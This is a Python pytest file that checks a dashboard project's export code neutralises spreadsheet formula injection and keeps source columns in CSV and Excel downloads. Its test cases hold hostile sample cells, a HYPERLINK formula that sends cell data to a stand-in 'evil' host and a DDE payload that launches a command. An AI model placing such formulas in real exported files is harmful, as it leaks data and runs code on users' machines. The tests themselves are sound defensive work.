import io

import pandas as pd
import pytest

from parkdash import exports
from parkdash.load import load
from tests.conftest import MINI

DS = load(MINI).dataset  # SYNTHETIC test data


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1", "'\r=1"),
        ("-10", "-10"),
        ("-1.5e3", "-1.5e3"),
        ("株洲", "株洲"),
    ],
)
def test_formula_cells_are_neutralised(cell, shown):
    assert exports.neutralise(cell) == shown


def test_numbers_stay_numbers():
    frame = exports.safe_frame(pd.DataFrame({"v": [-10.0, 3.0], "t": ["=1", "ok"]}))
    assert frame["v"].tolist() == [-10.0, 3.0] and frame["t"].tolist() == ["'=1", "ok"]


def test_downloads_carry_the_source_columns():
    table = exports.with_sources(DS, DS.observations)
    assert set(exports.SOURCE_COLUMNS) <= set(table.columns)
    csv = pd.read_csv(io.BytesIO(exports.to_csv(table)), encoding="utf-8-sig")
    assert len(csv) == 6 and csv["news_outlet"].iloc[0] == "测试社"
    xlsx = pd.read_excel(io.BytesIO(exports.to_xlsx(table, "observations")))
    assert len(xlsx) == 6 and set(exports.SOURCE_COLUMNS) <= set(xlsx.columns)
